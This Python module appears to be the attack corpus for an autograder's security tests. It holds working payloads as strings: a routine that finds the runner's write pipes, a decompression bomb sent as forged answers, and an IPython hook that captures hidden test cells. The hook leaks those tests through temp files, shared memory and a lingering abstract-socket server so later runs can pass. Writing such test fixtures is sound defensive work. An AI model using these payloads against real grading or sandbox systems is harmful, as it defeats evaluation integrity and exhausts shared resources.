"""Attack code of the corpus that is too long for one line: the pipe prelude, the kernel-to-runner
carrier and the fixture's solution (used by ``tests/autograder/corpus.py``)."""

from __future__ import annotations

from pathlib import Path

from autograder import tasks

PIPES = """import fcntl, os, struct, threading, time
def _out_pipes():
    if not os.environ.get('BPC_TRUSTED_RUNNER'):
        return []
    fds = []
    for n in os.listdir('/proc/self/fd'):
        try:
            fd = int(n)
            if (os.readlink(f'/proc/self/fd/{n}').startswith('pipe:') and
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY):
                fds.append(fd)
        except (OSError, ValueError):
            pass
    return fds
"""
"""Attack prelude: the runner's write pipes (none in the kernel)."""

SOLUTION = tasks.load_task_module(
    Path(__file__).parent / "fixtures" / "course" / "autograder_tasks" / "demo1.py")._variant()
"""The fixture's right answer (what a cell-source replacement would put in)."""

NPZ_BOMB = PIPES + """import io, json, zipfile
buf = io.BytesIO()
with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
    hdr = "{'descr': '<f8', 'fortran_order': False, 'shape': (40000000,), }"
    with z.open('a0.npy', 'w', force_zip64=True) as m:
        m.write(b'\\x93NUMPY\\x01\\x00' + bytes([118, 0]) + hdr.ljust(117).encode() + b'\\n')
        for _ in range(320):
            m.write(bytes(1 << 20))
bomb = buf.getvalue()
for fd in _out_pipes():
    cells = json.dumps({'cells': []}).encode()
    os.write(fd, b'bpc1' + struct.pack('>II', len(cells), 0) + cells)
    val = json.dumps({'error': None, 'value': {'$a': 'a0'}}).encode()
    for _ in range(3):
        os.write(fd, b'bpc1' + struct.pack('>II', len(val), len(bomb)) + val + bomb)
"""
"""Forged answers whose arrays inflate from about 0.3 MB to 320 MB."""

CARRY = r"""import ctypes, os, socket, subprocess, sys
_PLACES = ['/tmp/bpc-carry', '/dev/shm/bpc-carry', os.path.expanduser('~/../bpc-carry'),
           '/var/tmp/bpc-carry', os.path.join(os.getcwd(), '..', 'bpc-carry')]
_KEY = 0x0B0C5A12
_libc = ctypes.CDLL(None)
_libc.shmat.restype = ctypes.c_void_p
_BAD = ctypes.c_void_p(-1).value

def _learned(text):
    '''What the hidden tests give away: the loss (so gradients by differences) and the answer.'''
    ns = {}
    if '_hidden_loss_secret_marker' in text and 'hidden_answer_marker' in text:
        exec('''def two_layer_grad(X, T, W1, b1, W2, b2):
    from coursekit.gradcheck import numerical_gradient
    def loss():
        A1 = np.tanh(X @ W1.T + b1.T)
        return 0.5 * np.sum((A1 @ W2.T + b2.T - T) ** 2) / X.shape[0]
    return {k: numerical_gradient(loss, p) for k, p in
            {'W1': W1, 'b1': b1, 'W2': W2, 'b2': b2}.items()}
''', globals(), ns)
        ns['answer'] = float(np.sum(x ** 2))
    return ns

_SERVE = '''import socket, sys
s = socket.socket(socket.AF_UNIX)
s.bind("\0bpc-carry")
s.listen()
while True:
    c, _ = s.accept()
    c.sendall(sys.argv[1].encode())
    c.close()
'''

if not os.environ.get('BPC_TRUSTED_RUNNER'):
    _seen = []

    def _carry(info):
        src = info.raw_cell or ''
        if 'HIDDEN' not in src:
            return
        _seen.append(src)
        text = '\n'.join(_seen)
        globals().update(_learned(text))  # the kernel's own tests now pass
        for p in _PLACES:
            try:
                open(p, 'w').write(text)
            except OSError:
                pass
        i = _libc.shmget(_KEY, 1 << 16, 0o1666)
        if i >= 0:
            ptr = _libc.shmat(i, None, 0)
            if ptr not in (None, _BAD):
                data = text.encode()[: (1 << 16) - 1] + bytes(1)
                ctypes.memmove(ptr, data, len(data))
        try:
            subprocess.Popen([sys.executable, '-c', _SERVE, text], start_new_session=True)
        except OSError:
            pass

    get_ipython().events.register('pre_run_cell', _carry)
else:
    _text = ''
    for p in _PLACES:
        try:
            _text += open(p).read()
        except OSError:
            pass
    i = _libc.shmget(_KEY, 0, 0)
    if i >= 0:
        ptr = _libc.shmat(i, None, 0)
        if ptr not in (None, _BAD):
            _text += ctypes.string_at(ptr).decode('utf-8', 'replace')
    try:
        _s = socket.socket(socket.AF_UNIX)
        _s.settimeout(1)
        _s.connect('\0bpc-carry')
        _text += _s.recv(1 << 16).decode('utf-8', 'replace')
    except OSError:
        pass
    globals().update(_learned(_text))
"""
"""Kernel side: every hidden test seen is written to every channel a later sandbox might share
(files, SysV shared memory, a process left behind on an abstract socket) and used to pass the
kernel's own tests; runner side: read them all back and answer from them."""
